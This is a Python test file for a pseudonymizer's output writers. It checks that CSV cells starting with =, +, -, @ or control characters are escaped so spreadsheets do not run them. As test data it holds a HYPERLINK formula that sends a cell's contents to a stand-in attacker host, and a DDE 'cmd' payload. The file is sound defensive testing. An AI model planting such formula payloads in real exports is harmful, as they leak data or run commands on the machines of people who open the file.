"""A release's CSV never hands a spreadsheet a formula to run; JSONL and CoNLL are untouched."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pseudonymizer.formats.writers import (
    FORMULA_STARTS,
    TEXT_MARK,
    OutputDocument,
    spreadsheet_safe,
    write_conll,
    write_csv,
    write_jsonl,
)
from pseudonymizer.spans import Span

PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"Zed")'


def rows(document: OutputDocument, columns: tuple[str, ...] = ()) -> list[dict[str, str]]:
    stream = io.StringIO(newline="")
    write_csv([document], stream, metadata_columns=columns)
    stream.seek(0)
    return list(csv.DictReader(stream))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_that_would_run_is_written_as_text(start: str) -> None:
    document = OutputDocument(
        id=f"{start}1+1",
        language=f"{start}en",
        text=f"{start}cmd|' /C calc'!A0 and more",
        metadata={"note": f"{start}SUM(A1:A9)", "score": -3},
    )
    (row,) = rows(document, ("note", "score"))
    assert not any(runs_as_formula(cell) for cell in row.values())
    assert row["id"] == f"{TEXT_MARK}{start}1+1"
    assert row["note"] == f"{TEXT_MARK}{start}SUM(A1:A9)"
    assert row["score"] == f"{TEXT_MARK}-3"


def test_a_typed_pseudonym_at_the_start_keeps_its_span_offsets_right() -> None:
    text = f"{PAYLOAD} wrote to Zed."
    zed = text.rindex("Zed")
    document = OutputDocument(
        id="d1",
        language="en",
        text=text,
        spans=[Span(0, len(PAYLOAD), "PER"), Span(zed, zed + 3, "PER")],
    )
    (row,) = rows(document)
    assert row["text"] == TEXT_MARK + text
    spans = json.loads(row["spans"])
    # Offsets count the mark: each span is still its text in the cell as written.
    assert [row["text"][s["start"] : s["end"]] for s in spans] == [PAYLOAD, "Zed"]
    assert [s["text"] for s in spans] == [PAYLOAD, "Zed"]


def test_a_text_that_runs_nothing_is_written_as_it_is() -> None:
    document = OutputDocument(
        id="d1", language="en", text="Dear Zed, =1+1", spans=[Span(5, 8, "PER")]
    )
    (row,) = rows(document)
    assert row["text"] == "Dear Zed, =1+1"
    assert json.loads(row["spans"])[0]["start"] == 5


def test_jsonl_and_conll_keep_the_text_as_it_is() -> None:
    document = OutputDocument(id="=d1", language="en", text=f"{PAYLOAD} wrote.")
    jsonl, conll = io.StringIO(), io.StringIO()
    write_jsonl([document], jsonl)
    write_conll([document], conll)
    record = json.loads(jsonl.getvalue())
    assert record["text"] == f"{PAYLOAD} wrote."
    assert record["id"] == "=d1"
    assert conll.getvalue().splitlines()[1] == "# id = =d1"


@settings(max_examples=200, deadline=None)
@given(value=st.text(max_size=20))
def test_a_safe_cell_never_starts_a_formula_and_only_ever_gains_the_mark(value: str) -> None:
    safe = spreadsheet_safe(value)
    assert not runs_as_formula(safe)
    assert safe in (value, TEXT_MARK + value)
